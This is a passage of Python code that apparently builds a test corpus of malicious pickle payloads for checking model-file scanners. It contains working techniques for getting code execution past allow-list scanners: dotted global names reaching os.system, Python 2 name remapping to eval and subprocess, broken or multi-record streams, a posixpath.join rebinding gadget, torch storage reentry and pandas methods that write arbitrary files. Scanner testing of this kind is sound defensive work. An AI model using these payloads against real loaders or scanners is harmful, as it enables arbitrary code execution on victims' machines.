    "opcode-path",
    lambda c: (
        Asm(5)
        .header()
        .emit(SYSTEM)
        .emit(G("builtins", "bytes"))
        .op(asm.NEXT_BUFFER, asm.READONLY_BUFFER, asm.TUPLE1, asm.REDUCE, asm.TUPLE1, asm.REDUCE, asm.STOP)
        .build(frame=True)
    ),
    loader="pickle-buffers",
    notes="command travels out of band in buffers=[...]; the stream only names os.system",
)
add(
    "op-late-proto-dotted",
    "opcode-path",
    lambda c: (
        Asm(2)
        .header()
        .op(asm.PROTO, b"\x04")
        .global_("subprocess", "os.system")
        .str(c.cmd)
        .op(asm.TUPLE1, asm.REDUCE, asm.STOP)
        .build()
    ),
    bypass="dotted-names",
    notes="second PROTO 4 mid-stream enables dotted names for a GLOBAL opcode",
)
add(
    "op-dotted-subprocess-os-system",
    "dotted",
    lambda c: program(call(G("subprocess", "os.system"), c.cmd), 4, frame=True),
    bypass="dotted-names",
    notes="protocol-4 find_class walks dotted names: subprocess.os.system",
)
add(
    "op-dotted-global-shutil",
    "dotted",
    lambda c: program(call(G("shutil", "os.system"), c.cmd), 4, stack_global=False),
    bypass="dotted-names",
    notes="dotted name in a GLOBAL opcode under PROTO 4",
)
add(
    "op-dotted-tempfile-private-os",
    "dotted",
    lambda c: program(call(G("tempfile", "_os.system"), c.cmd), 4),
    bypass="dotted-names",
)
add(
    "op-dotted-torch-os",
    "dotted",
    lambda c: program(call(G("torch", "os.system"), c.cmd), 4),
    bypass="dotted-names",
    notes="allow-listed top-level module, dangerous dotted tail",
)
add(
    "op-dotted-builtins-self",
    "dotted",
    lambda c: program(call(attr(G("builtins", "getattr.__self__"), "exec"), c.pycode), 4),
    primitives=("builtins.getattr.__self__", "exec"),
    bypass="dotted-names",
)
add(
    "op-fix-imports-builtin-eval",
    "py2-names",
    lambda c: (
        Asm(0)
        .global_("__builtin__", "eval")
        .op(asm.MARK)
        .str(f"__import__('os').system({c.cmd!r})")
        .op(asm.TUPLE, asm.REDUCE, asm.STOP)
        .build()
    ),
    primitives=("__builtin__.eval",),
    bypass="py2-names",
    notes="protocol <3 maps __builtin__ to builtins",
)
add(
    "op-fix-imports-commands",
    "py2-names",
    lambda c: Asm(2).header().global_("commands", "getoutput").str(c.cmd).op(asm.TUPLE1, asm.REDUCE, asm.STOP).build(),
    primitives=("commands.getoutput",),
    bypass="py2-names",
    notes="protocol <3 maps commands to subprocess",
)
add(
    "op-fix-imports-cpickle",
    "py2-names",
    lambda c: (
        Asm(2).header().global_("cPickle", "loads").bytes_(inner_pickle(c)).op(asm.TUPLE1, asm.REDUCE, asm.STOP).build()
    ),
    primitives=("cPickle.loads",),
    bypass="py2-names",
)
add(
    "op-fix-imports-copy-reg",
    "py2-names",
    lambda c: (
        Asm(1)
        .global_("copy_reg", "_reconstructor")
        .op(asm.MARK)
        .global_("subprocess", "Popen")
        .global_("subprocess", "Popen")
        .emit(c.argv)
        .op(asm.TUPLE, asm.REDUCE, asm.STOP)
        .build()
    ),
    primitives=("copy_reg._reconstructor", "subprocess.Popen"),
    bypass="py2-names",
)


# --------------------------------------------------------------------------------------------- broken streams
def _payload_then(rest: bytes, proto: int = 2) -> Callable[[Ctx], bytes]:
    return lambda c: Asm(proto).header().emit(call(SYSTEM, c.cmd)).op(rest).build()


add(
    "broken-garbage-after-reduce",
    "broken-stream",
    _payload_then(b"\xff\xfe garbage"),
    bypass="broken-stream",
    notes="invalid opcode right after the REDUCE (nullifAI)",
)
add(
    "broken-truncated-no-stop",
    "broken-stream",
    _payload_then(b""),
    bypass="broken-stream",
    notes="stream ends without STOP",
)
add(
    "broken-stack-underflow",
    "broken-stream",
    _payload_then(b"0000a."),
    bypass="broken-stream",
    notes="POPs past the bottom after the payload",
)
add(
    "broken-bad-frame-after-payload",
    "broken-stream",
    lambda c: Asm(4).header().emit(call(SYSTEM, c.cmd)).op(asm.FRAME, struct.pack("<Q", 1 << 40), b"x").build(),
    bypass="broken-stream",
    notes="absurd FRAME length after the payload",
)
add("broken-unbalanced-mark", "broken-stream", _payload_then(b"((((t"), bypass="broken-stream")
add(
    "stream-second-after-benign",
    "multi-stream",
    lambda c: program({"weights": [1.0, 2.0]}, 4, frame=True) + program(call(SYSTEM, c.cmd), 4, frame=True),
    loader="pickle-stream",
    bypass="after-stop",
    notes="payload in a second pickle after a benign one; loaders that read records until EOF run it",
)
add(
    "stream-second-p0-after-benign",
    "multi-stream",
    lambda c: program([1, 2, 3], 2) + program(call(SYSTEM, c.cmd), 0),
    loader="pickle-stream",
    bypass="after-stop",
)
add(
    "stream-third-after-two-benign",
    "multi-stream",
    lambda c: program(1, 2) + program("x", 3) + program(call(G("builtins", "exec"), c.pycode), 5),
    loader="pickle-stream",
    primitives=("builtins.exec",),
    bypass="after-stop",
)


def _build_module_monkeypatch(c: Ctx) -> bytes:
    a = Asm(2).header().global_("os", "path")  # the posixpath module object
    a.op(asm.NONE).emit({"join": SYSTEM}).op(asm.TUPLE2, asm.BUILD, asm.POP)  # setattr(posixpath, 'join', os.system)
    a.global_("posixpath", "join").str(c.cmd).op(asm.TUPLE1, asm.REDUCE, asm.STOP)  # looks like a path join
    return a.build()


add(
    "op-build-module-monkeypatch",
    "build-gadget",
    _build_module_monkeypatch,
    isolate=True,
    bypass="build-gadget",
    notes="BUILD slot-state on a module object rebinds posixpath.join to os.system; the REDUCE names posixpath.join",
)
add(
    "prim-torch-storage-load-from-bytes",
    "primitive",
    lambda c: program(call(G("torch.storage", "_load_from_bytes"), inner_pickle(c)), 2),
    primitives=("torch.storage._load_from_bytes",),
    bypass="reentry",
    notes="allow-listed legacy-storage helper: torch.load(io.BytesIO(b), weights_only=False) on embedded bytes",
)
add(
    "prim-torch-load-from-bytes-in-legacy-storage",
    "primitive",
    lambda c: program({"state": {"w": call(G("torch.storage", "_load_from_bytes"), inner_pickle(c))}}, 2),
    primitives=("torch.storage._load_from_bytes",),
    bypass="reentry",
    notes="same helper nested in an ordinary-looking state dict",
)
add(
    "op-dotted-pattern-functional-torch-os",
    "dotted",
    lambda c: program(call(G("torch.nn.functional", "torch.os.system"), c.cmd), 4),
    bypass="dotted-names",
    notes="module allowed by a name pattern ([a-z]* in torch.nn.functional) plus a dotted tail through `torch.os`",
)
add(
    "op-dotted-pattern-dataframe-to-pickle",
    "dotted",
    lambda c: program(
        call(G("pandas.core.frame", "DataFrame.to_pickle"), call(G("pandas.core.frame", "DataFrame")), c.canary), 4
    ),
    primitives=("pandas.core.frame.DataFrame.to_pickle",),
    bypass="dotted-names",
    notes="CamelCase pattern (pandas.core* [A-Z]*) plus a dotted method: arbitrary file write",
)
add(
    "op-dotted-pattern-dataframe-to-csv",
    "dotted",
    lambda c: program(
        call(G("pandas.core.frame", "DataFrame.to_csv"), call(G("pandas.core.frame", "DataFrame")), c.canary), 4
    ),
    primitives=("pandas.core.frame.DataFrame.to_csv",),
    bypass="dotted-names",
    notes="CamelCase pattern plus a dotted method: arbitrary file write",
)
